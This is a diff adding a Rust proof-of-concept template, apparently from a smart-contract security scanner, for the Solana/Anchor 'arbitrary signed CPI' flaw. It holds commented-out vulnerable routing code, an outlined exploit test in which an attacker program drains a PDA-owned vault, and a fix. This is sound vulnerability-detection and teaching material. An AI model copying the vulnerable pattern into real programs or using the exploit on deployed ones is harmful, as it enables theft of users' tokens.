@@ -0,0 +1,101 @@
+// ---
+// name: Arbitrary Signed CPI
+// description: A PDA signs a CPI whose program, signer seeds or data the caller chooses
+// vulnerability_type: arbitrary-cpi
+// class: untrusted-delegated-execution
+// chain: solana
+// severity: high
+// cwe: [CWE-441, CWE-829]
+// remediation: "Pin the invoked program with Program<'info, T> or a key check, derive
+//   signer seeds only from validated accounts, and build the instruction data in the program."
+// tags: [arbitrary-cpi, invoke-signed, pda, signer-seeds, anchor]
+// context:
+//   PROGRAM_ID: Program under test
+//   VAULT_ACCOUNT: Token account the PDA is authority of
+// references:
+//   - https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/5-arbitrary-cpi
+// ---
+// PoC Template: Arbitrary Signed CPI
+// Vulnerability: A PDA signs a CPI whose program, signer seeds or data the caller chooses
+// Chain: Solana/Anchor
+//
+// `invoke_signed` hands the callee a signature for the PDA, good for
+// anything the callee does with it during the call. When the caller picks
+// the program, their program receives the vault authority as a signer and
+// transfers the vault's tokens to itself. When the caller picks the data,
+// the real token program runs `SetAuthority` or `Transfer` of their
+// choosing. When the caller picks the seeds, the program signs for another
+// user's PDA.
+//
+// Detection: the `arbitrary-cpi` static detector reports PDA-signed CPIs
+// into programs nothing pins, with signer seeds taken from instruction
+// arguments or unchecked accounts, or with data built from caller bytes.
+
+use anchor_lang::prelude::*;
+
+// ============================================================
+// VULNERABLE CODE PATTERN
+// ============================================================
+// pub fn route_swap(ctx: Context<RouteSwap>, amount: u64) -> Result<()> {
+//     let signer_seeds: &[&[&[u8]]] = &[&[b"authority", &[ctx.bumps.vault_authority]]];
+//     let cpi_accounts = Transfer {
+//         from: ctx.accounts.vault.to_account_info(),
+//         to: ctx.accounts.destination.to_account_info(),
+//         authority: ctx.accounts.vault_authority.to_account_info(),
+//     };
+//     // BUG: swap_program is whatever the caller passes in
+//     let cpi_ctx = CpiContext::new_with_signer(ctx.accounts.swap_program.to_account_info(), cpi_accounts, signer_seeds);
+//     token::transfer(cpi_ctx, amount)
+// }
+//
+// #[derive(Accounts)]
+// pub struct RouteSwap<'info> {
+//     /// CHECK: the program to route through
+//     pub swap_program: UncheckedAccount<'info>,
+//     ...
+// }
+
+// ============================================================
+// EXPLOIT TEST (Anchor test framework)
+// ============================================================
+// #[cfg(test)]
+// mod tests {
+//     use super::*;
+//
+//     #[test]
+//     fn test_pda_signature_to_attacker_program() {
+//         // 1. Set up program, the PDA-owned vault and an attacker program
+//         // let program = {{PROGRAM_ID}};
+//         // let vault = {{VAULT_ACCOUNT}};
+//         // let attacker = Keypair::new();
+//         // // Attacker program: on any instruction, token::transfer(vault -> attacker, all)
+//         // //   signed by the vault authority it was handed as a signer
+//         // let evil = deploy(attacker_program_so);
+//         // let before = token_balance(vault);
+//
+//         // 2. Route through the attacker program instead of the token program
+//         // let accounts = accounts::RouteSwap { swap_program: evil, vault, destination: attacker_token, .. };
+//         // let tx = send(program, instruction::RouteSwap { amount: 1 }, accounts);
+//
+//         // 3. Should fail; instead the attacker program drained the vault with the PDA signature
+//         // assert!(tx.is_ok());
+//         // assert_eq!(token_balance(vault), 0, "Exploit: PDA signed for the attacker's program");
+//         // assert_eq!(token_balance(attacker_token), before);
+//     }
+// }
+
+// ============================================================
+// FIX: Pin the program, the seeds and the data
+// ============================================================
+// #[derive(Accounts)]
+// pub struct RouteSwap<'info> {
+//     pub swap_program: Program<'info, Token>,
+//     ...
+// }
+//
+// # Or, for programs without an Anchor type:
+// require_keys_eq!(ctx.accounts.swap_program.key(), SWAP_PROGRAM_ID);
+//
+// # Signer seeds from validated accounts only (never instruction arguments),
+// # and instruction data built in the program:
+// let ix = spl_token::instruction::transfer(&spl_token::ID, &vault, &destination, &authority, &[], amount)?;